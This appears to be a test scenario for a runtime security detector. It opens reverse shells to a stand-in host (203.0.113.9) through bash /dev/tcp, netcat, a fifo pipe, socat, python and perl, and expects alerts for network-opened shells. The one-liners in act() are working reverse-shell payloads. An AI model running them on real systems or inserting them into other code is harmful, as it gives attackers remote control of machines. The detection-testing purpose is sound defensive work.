# reverse-shells: shells are handed to the network by bash, netcat, a fifo, socat and python, on the host and in a container.
# shows: the arguments, connections by the shell itself, a shell that follows a connection in one process
# outcome: the listener is this machine's own and says nothing
# as: ops
# label: malicious
# expects: [network-shell-opened, shell-spawned-by-utility]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored]
prepare() { . /lab/stand_ins.sh; outside 203.0.113.9; answer 4444 exit; answer 9001 exit; }
act() {
    if dev; then
        timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
        timeout 5 busybox nc 203.0.113.9 4444 -e /bin/sh
        timeout 5 python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    else
        timeout 5 sh -c 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|busybox nc 203.0.113.9 9001 >/tmp/f'
        timeout 5 socat TCP:203.0.113.9:9001 EXEC:'/bin/bash -i',pty,stderr,setsid
        timeout 5 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(9001,inet_aton("203.0.113.9")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}'
        timeout 3 script -qc /bin/bash /dev/null </dev/null
        rm -f /tmp/f
    fi
    true
}
restore() { . /lab/stand_ins.sh; answers_stop; }
